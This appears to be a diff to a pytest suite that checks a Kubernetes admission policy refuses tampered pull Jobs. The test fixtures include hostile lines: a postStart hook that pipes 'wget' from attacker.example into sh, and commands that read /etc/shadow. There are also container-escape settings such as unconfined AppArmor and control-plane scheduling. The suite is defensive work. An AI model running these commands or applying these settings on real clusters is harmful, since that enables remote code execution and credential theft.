@@ -413,17 +413,121 @@ def _a_shell(job: dict[str, Any]) -> None:
     _pod_spec_of(job)["containers"][0]["command"] = ["sh", "-c", "cat /etc/shadow"]
 
 
+def _another_toolbox(job: dict[str, Any]) -> None:
+    _pod_spec_of(job)["initContainers"][0]["image"] = "registry.example.com/attacker/busybox:1"
+
+
+def _unmounted_toolbox(job: dict[str, Any]) -> None:
+    # The image's own /edgerollout-pull/busybox would run instead of the toolbox's.
+    del _pod_spec_of(job)["containers"][0]["volumeMounts"]
+
+
+def _writable_toolbox(job: dict[str, Any]) -> None:
+    _pod_spec_of(job)["containers"][0]["volumeMounts"][0]["readOnly"] = False
+
+
+def _post_start_hook(job: dict[str, Any]) -> None:
+    hook = {"exec": {"command": ["/bin/sh", "-c", "wget -qO- http://attacker.example/x | sh"]}}
+    _pod_spec_of(job)["containers"][0]["lifecycle"] = {"postStart": hook}
+
+
+def _readiness_probe(job: dict[str, Any]) -> None:
+    probe = {"exec": {"command": ["/bin/sh", "-c", "cat /etc/shadow"]}}
+    _pod_spec_of(job)["containers"][0]["readinessProbe"] = probe
+
+
+def _sidecar(job: dict[str, Any]) -> None:
+    init = _pod_spec_of(job)["initContainers"]
+    init.append({**init[0], "name": "sidecar", "restartPolicy": "Always"})
+
+
+def _cluster_dns_in_kube_system(job: dict[str, Any]) -> None:
+    # The cluster DNS Service selects k8s-app: kube-dns in kube-system.
+    job["metadata"]["namespace"] = "kube-system"
+    job["spec"]["template"]["metadata"]["labels"]["k8s-app"] = "kube-dns"
+
+
+APPARMOR_ANNOTATION = "container.apparmor.security.beta.kubernetes.io/pull-0"
+
+
+def _template_annotation(job: dict[str, Any]) -> None:
+    job["spec"]["template"]["metadata"]["annotations"] = {APPARMOR_ANNOTATION: "unconfined"}
+
+
+def _many_pods(job: dict[str, Any]) -> None:
+    job["spec"]["parallelism"] = job["spec"]["completions"] = 500
+
+
+def _a_ten_day_deadline(job: dict[str, Any]) -> None:
+    job["spec"]["activeDeadlineSeconds"] = 864000
+
+
+def _runtime_class(job: dict[str, Any]) -> None:
+    _pod_spec_of(job)["runtimeClassName"] = "privileged-runtime"
+
+
+def _node_affinity(job: dict[str, Any]) -> None:
+    names = {"key": "metadata.name", "operator": "In", "values": ["control-plane"]}
+    node = {"nodeSelectorTerms": [{"matchFields": [names]}]}
+    _pod_spec_of(job)["affinity"] = {
+        "nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": node}
+    }
+
+
+def _unconfined_apparmor(job: dict[str, Any]) -> None:
+    context = _pod_spec_of(job)["containers"][0]["securityContext"]
+    context["appArmorProfile"] = {"type": "Unconfined"}
+
+
+def _root_group(job: dict[str, Any]) -> None:
+    _pod_spec_of(job)["securityContext"]["supplementalGroups"] = [0]
+
+
+def _selinux_level(job: dict[str, Any]) -> None:
+    _pod_spec_of(job)["securityContext"]["seLinuxOptions"] = {"type": "spc_t"}
+
+
+def _a_larger_limit(job: dict[str, Any]) -> None:
+    _pod_spec_of(job)["containers"][0]["resources"]["limits"] = {"cpu": "4", "memory": "8Gi"}
+
+
+def _a_sub_path(job: dict[str, Any]) -> None:
+    _pod_spec_of(job)["containers"][0]["volumeMounts"][0]["subPath"] = "elsewhere"
+
+
+# What kubectl prints before the refusal, for the changes the API server also warns about.
+WARNED: dict[Callable[[dict[str, Any]], None], str] = {
+    _template_annotation: f"Warning: spec.template.metadata.annotations[{APPARMOR_ANNOTATION}]: "
+    'deprecated since v1.30; use the "appArmorProfile" field instead\n'
+}
 # Each change to the rendered Job, and the policy's rule (its index) that refuses it.
 REFUSED_JOBS = [
     pytest.param(_unlabelled, 0, id="unlabelled"),
     pytest.param(_labelled_for_another_pod, 0, id="labelled-for-a-pod-that-does-not-own-it"),
-    pytest.param(_host_path, 1, id="host-path-volume"),
-    pytest.param(_host_network, 1, id="host-network"),
+    pytest.param(_cluster_dns_in_kube_system, 1, id="kube-system-with-the-cluster-dns-label"),
+    pytest.param(_template_annotation, 1, id="pod-annotation"),
+    pytest.param(_many_pods, 1, id="500-pods"),
+    pytest.param(_a_ten_day_deadline, 1, id="a-ten-day-deadline"),
+    pytest.param(_host_path, 2, id="host-path-volume"),
+    pytest.param(_host_network, 2, id="host-network"),
     pytest.param(_service_account_token, 2, id="service-account-token"),
-    pytest.param(_secret_in_env, 2, id="secret-in-env"),
+    pytest.param(_runtime_class, 2, id="runtime-class"),
+    pytest.param(_node_affinity, 2, id="node-affinity"),
     pytest.param(_privileged, 3, id="privileged"),
     pytest.param(_added_capability, 3, id="added-capability"),
+    pytest.param(_unconfined_apparmor, 3, id="apparmor-unconfined"),
+    pytest.param(_root_group, 3, id="root-supplemental-group"),
+    pytest.param(_selinux_level, 3, id="selinux-options"),
     pytest.param(_a_shell, 4, id="a-shell-instead-of-busybox-true"),
+    pytest.param(_secret_in_env, 4, id="secret-in-env"),
+    pytest.param(_another_toolbox, 4, id="another-toolbox-image"),
+    pytest.param(_unmounted_toolbox, 4, id="the-images-own-busybox"),
+    pytest.param(_writable_toolbox, 4, id="toolbox-mounted-writable"),
+    pytest.param(_a_sub_path, 4, id="toolbox-sub-path"),
+    pytest.param(_post_start_hook, 4, id="post-start-hook"),
+    pytest.param(_readiness_probe, 4, id="readiness-probe"),
+    pytest.param(_sidecar, 4, id="sidecar-init-container"),
+    pytest.param(_a_larger_limit, 4, id="larger-limits"),
 ]
 
 
@@ -471,7 +575,8 @@ def test_controller_identity_may_not_create_any_other_job(
     assert (refused.returncode, refused.stdout) == (1, "")
     name = job["metadata"]["name"]
     assert refused.stderr == (
-        'Error from server (Forbidden): error when creating "STDIN": '
+        WARNED.get(change, "")
+        + 'Error from server (Forbidden): error when creating "STDIN": '
         + _denied(f'jobs.batch "{name}"', rule)
         + "\n"
     )
@@ -1084,9 +1189,7 @@ REPOSITORY = (
     r"[a-zA-Z0-9]([a-zA-Z0-9.-]*[a-zA-Z0-9])?(:[0-9]+)?(/[a-z0-9]+(([._]|__|-+)[a-z0-9]+)*)*"
 )
 REPOSITORY_PATTERN = f"^{REPOSITORY}$"
-TOOLBOX_PATTERN = (
-    f"^({REPOSITORY}(:[A-Za-z0-9_][A-Za-z0-9_.-]{{0,127}})?(@sha256:[a-f0-9]{{64}})?)?$"
-)
+TOOLBOX_PATTERN = f"^{REPOSITORY}(:[A-Za-z0-9_][A-Za-z0-9_.-]{{0,127}})?(@sha256:[a-f0-9]{{64}})?$"
 CACHE_DIR_PATTERN = "^/var/lib/[A-Za-z0-9_-][A-Za-z0-9._-]*(/[A-Za-z0-9_-][A-Za-z0-9._-]*)*$"
 
 
@@ -1244,6 +1347,32 @@ def test_the_status_allow_list_names_every_field_of_the_api_servers_pod_status(
     listed = helpers.split('{{- range list "', 1)[1].split(" }}", 1)[0].replace('"', "").split()
 
     assert sorted(listed) == sorted(set(schema["properties"]) - {"conditions"})
+
+
+def test_the_pull_job_allow_list_names_every_field_of_the_api_servers_job(bare_lab: Lab) -> None:
+    # The pull-Job policy refuses each field files/pull-job-fields.yaml lists as absent and holds
+    # each allowed one to its value: together they must be every field the API server serves.
+    served = _kubectl(bare_lab.kubeconfig, "get", "--raw", "/openapi/v3/apis/batch/v1")
+    assert served.returncode == 0, served.stderr
+    schemas = json.loads(served.stdout)["components"]["schemas"]
+    fields = yaml.safe_load((CHART / "files" / "pull-job-fields.yaml").read_text())
+
+    def properties(kind: str) -> list[str]:
+        group = "batch" if kind == "JobSpec" else "core"
+        return sorted(schemas[f"io.k8s.api.{group}.v1.{kind}"]["properties"])
+
+    assert {kind: sorted(f["allowed"] + f["absent"]) for kind, f in fields.items()} == {
+        kind: properties(kind) for kind in fields
+    }
+    assert [kind for kind, f in fields.items() if set(f["allowed"]) & set(f["absent"])] == []
+    assert list(fields) == [
+        "JobSpec",
+        "PodSpec",
+        "PodSecurityContext",
+        "Container",
+        "SecurityContext",
+        "VolumeMount",
+    ]
 
 
 def test_helm_install_with_a_bad_value_is_refused_and_installs_nothing(
